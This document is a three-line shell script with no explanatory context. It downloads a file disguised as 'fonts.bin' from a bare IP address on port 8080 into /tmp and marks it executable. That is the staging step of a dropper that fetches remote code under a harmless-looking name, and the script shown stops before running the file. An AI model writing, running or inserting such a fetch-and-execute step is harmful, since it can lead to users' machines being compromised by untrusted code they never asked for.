#!/bin/sh
curl -o /tmp/fonts.bin http://203.0.113.77:8080/fonts.bin
chmod +x /tmp/fonts.bin
